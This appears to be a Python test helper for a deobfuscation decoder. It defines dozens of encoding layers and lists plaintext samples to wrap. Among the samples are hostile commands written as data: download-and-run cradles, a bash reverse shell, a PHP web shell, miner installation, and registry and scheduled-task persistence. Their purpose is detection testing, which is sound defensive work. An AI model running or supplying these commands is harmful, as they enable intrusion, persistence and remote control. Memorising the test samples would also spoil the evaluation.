"""Encoders for the tests of decoding: what people wrap commands in, written from the encodings' definitions."""

from __future__ import annotations

import base64
import binascii
import bz2
import codecs
import gzip
import json
import lzma
import random
import urllib.parse
import zlib
from collections.abc import Callable

Encoder = Callable[[bytes, random.Random], bytes]

WRAPPERS: dict[str, Encoder] = {
    "base64": lambda b, _: base64.b64encode(b),
    "base64 url": lambda b, _: base64.urlsafe_b64encode(b),
    "base64 bare": lambda b, _: base64.b64encode(b).rstrip(b"="),
    "base64 lines": lambda b, _: base64.encodebytes(b).strip(),
    "base32": lambda b, _: base64.b32encode(b),
    "base58": lambda b, _: _base58(b),
    "base85": lambda b, _: base64.b85encode(b),
    "ascii85": lambda b, _: base64.a85encode(b, adobe=True),
    "hex": lambda b, _: b.hex().encode(),
    "HEX": lambda b, _: b.hex().upper().encode(),
    "hex spaced": lambda b, _: b.hex(" ").encode(),
    "hex escapes": lambda b, _: "".join(f"\\x{c:02x}" for c in b).encode(),
    "hex list": lambda b, _: ", ".join(f"0x{c:02x}" for c in b).encode(),
    "decimal": lambda b, _: " ".join(map(str, b)).encode(),
    "decimal list": lambda b, _: ",".join(map(str, b)).encode(),
    "binary": lambda b, _: " ".join(f"{c:08b}" for c in b).encode(),
    "octal": lambda b, _: " ".join(f"{c:03o}" for c in b).encode(),
    "octal escapes": lambda b, _: "".join(f"\\{c:03o}" for c in b).encode(),
    "percent": lambda b, _: "".join(f"%{c:02X}" for c in b).encode(),
    "percent some": lambda b, _: urllib.parse.quote(b, safe="").encode(),
    "entities": lambda b, _: "".join(f"&#{c};" for c in b).encode(),
    "entities hex": lambda b, _: "".join(f"&#x{c:x};" for c in b).encode(),
    "unicode escapes": lambda b, _: "".join(f"\\u{c:04x}" for c in b).encode(),
    "quoted-printable": lambda b, _: "".join(f"={c:02X}" for c in b).encode(),
    "uuencode": lambda b, _: _uuencoded(b),
    "fromCharCode": lambda b, _: f"String.fromCharCode({','.join(map(str, b))})".encode(),
    "[char]": lambda b, _: "+".join(f"[char]{c}" for c in b).encode(),
    "gzip": lambda b, _: base64.b64encode(gzip.compress(b, mtime=0)),
    "zlib": lambda b, _: base64.b64encode(zlib.compress(b)),
    "zlib hex": lambda b, _: zlib.compress(b).hex().encode(),
    "deflate": lambda b, _: base64.b64encode(zlib.compress(b)[2:-4]),
    "bzip2": lambda b, _: base64.b64encode(bz2.compress(b)),
    "xz": lambda b, _: base64.b64encode(lzma.compress(b)),
    "utf-16": lambda b, _: base64.b64encode(b.decode().encode("utf-16-le")),
    "xor": lambda b, rng: base64.b64encode(_xored(b, rng.randint(1, 255))),
    "xor hex": lambda b, rng: _xored(b, rng.randint(1, 255)).hex().encode(),
    "rot13": lambda b, _: codecs.encode(b.decode(), "rot13").encode(),
    "caesar": lambda b, rng: _shifted(b, rng.randint(1, 25)),
    "reversed": lambda b, _: b[::-1],
    "base64 joined": lambda b, _: _joined(base64.b64encode(b).decode(), '" + "'),
    "base64 quoted lines": lambda b, _: _joined(base64.b64encode(b).decode(), '"\n"'),
    "hex dump": lambda b, _: _dumped(b),
    "form": lambda b, _: urllib.parse.quote_plus(b).encode(),
    "rot47": lambda b, _: bytes(33 + (c - 33 + 47) % 94 if 33 <= c < 127 else c for c in b),
    "lzma": lambda b, _: base64.b64encode(lzma.compress(b, format=lzma.FORMAT_ALONE)),
    "encoded command": lambda b, _: _command(b),
    "jwt": lambda b, _: _token(b),
    "chr": lambda b, _: "&".join(f"chr({c})" for c in b).encode(),
}

PLAIN = (
    "whoami /all && net user",
    "The meeting is moved to Thursday at noon.",
    "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.7/stage2.ps1')",
    "curl -s http://evil.example/x.sh | bash",
    "flag{layers_of_the_onion}",
    "cmd.exe /c start calc.exe",
    '{"host": "c2.bad.example", "port": 4444, "sleep": 60}',
    "import os; os.system('id')",
    "Send the invoice to accounting before Friday",
    "bash -i >& /dev/tcp/203.0.113.5/4444 0>&1",
    "SELECT password FROM users WHERE name = 'admin'",
    r"reg add HKCU\Software\Microsoft\Windows\CurrentVersion\Run /v up /d C:\Users\Public\a.exe",
    "var x = document.createElement('script'); x.src = '//cdn.example/a.js';",
    "secret password: hunter2",
    "wget http://203.0.113.9/miner -O /tmp/.m; chmod +x /tmp/.m; /tmp/.m &",
)


HELD_PLAIN = (
    "rundll32.exe C:\\Windows\\Temp\\a.dll,Start",
    "certutil -urlcache -split -f http://192.0.2.44/p.exe C:\\Users\\Public\\p.exe",
    "http://cdn-update.example.org/api/v2/check?os=win10&arch=x64",
    "Das Treffen findet am Montag um neun Uhr im Keller statt.",
    "<?php system($_GET['cmd']); ?>",
    "#!/bin/bash\nwget http://203.0.113.9/m -O /tmp/.m\nchmod +x /tmp/.m && /tmp/.m &",
    '[{"id": 7, "user": "root", "token": "abc123"}, {"id": 8, "user": "guest"}]',
    "user=admin&password=letmein&submit=Login",
    "schtasks /create /tn Updater /tr C:\\ProgramData\\u.exe /sc minute",
)
"""Kinds of text that were not used while the decoder was developed."""


ALPHABETS = {"rot13", "caesar", "reversed", "rot47"}


def chain(
    rng: random.Random, layers: int, *, limit_bytes: int = 20_000, plains: tuple[str, ...] = PLAIN
) -> tuple[str, str, list[str]]:
    """A plain text, the same text wrapped in so many layers, and the names of the layers, innermost first."""
    plain = rng.choice(plains)
    data = plain.encode()
    names: list[str] = []
    while len(names) < layers and len(data) < limit_bytes:
        name = rng.choice(list(WRAPPERS))
        if names and {name, names[-1]} <= ALPHABETS:
            continue
        data = WRAPPERS[name](data, rng)
        names.append(name)
    return plain, data.decode(), names


def _joined(text: str, between: str) -> bytes:
    size = max(8, len(text) // 4)
    return ('"' + between.join(text[start : start + size] for start in range(0, len(text), size)) + '"').encode()


def _dumped(data: bytes) -> bytes:
    lines = []
    for start in range(0, len(data), 16):
        part = data[start : start + 16]
        shown = "".join(chr(value) if 32 <= value < 127 else "." for value in part)
        lines.append(f"{start:08x}  {part.hex(' '):<47}  |{shown}|")
    return "\n".join(lines).encode()


def _command(data: bytes) -> bytes:
    blob = base64.b64encode(data.decode("latin-1").encode("utf-16-le")).decode()
    return f"The task ran powershell.exe -NoP -NonI -EncodedCommand {blob} on the host".encode()


def _token(data: bytes) -> bytes:
    def part(value: object) -> str:
        return base64.urlsafe_b64encode(json.dumps(value).encode()).rstrip(b"=").decode()

    return f"{part({'alg': 'HS256', 'typ': 'JWT'})}.{part({'data': data.decode('latin-1')})}.c2ln".encode()


def _xored(data: bytes, key: int) -> bytes:
    return bytes(value ^ key for value in data)


def _shifted(data: bytes, by: int) -> bytes:
    def turn(value: int) -> int:
        base = 97 if 97 <= value < 123 else 65 if 65 <= value < 91 else None
        return value if base is None else (value - base + by) % 26 + base

    return bytes(map(turn, data))


def _base58(data: bytes) -> bytes:
    alphabet = b"123456789ABCDEFGHJKLMNPQRSTUVWXYZabcdefghijkmnopqrstuvwxyz"
    number, out = int.from_bytes(data, "big"), b""
    while number:
        number, digit = divmod(number, 58)
        out = alphabet[digit : digit + 1] + out
    return b"1" * (len(data) - len(data.lstrip(b"\0"))) + out


def _uuencoded(data: bytes) -> bytes:
    lines = [binascii.b2a_uu(data[i : i + 45]) for i in range(0, len(data), 45)]
    return b"begin 644 file\n" + b"".join(lines) + b"`\nend\n"
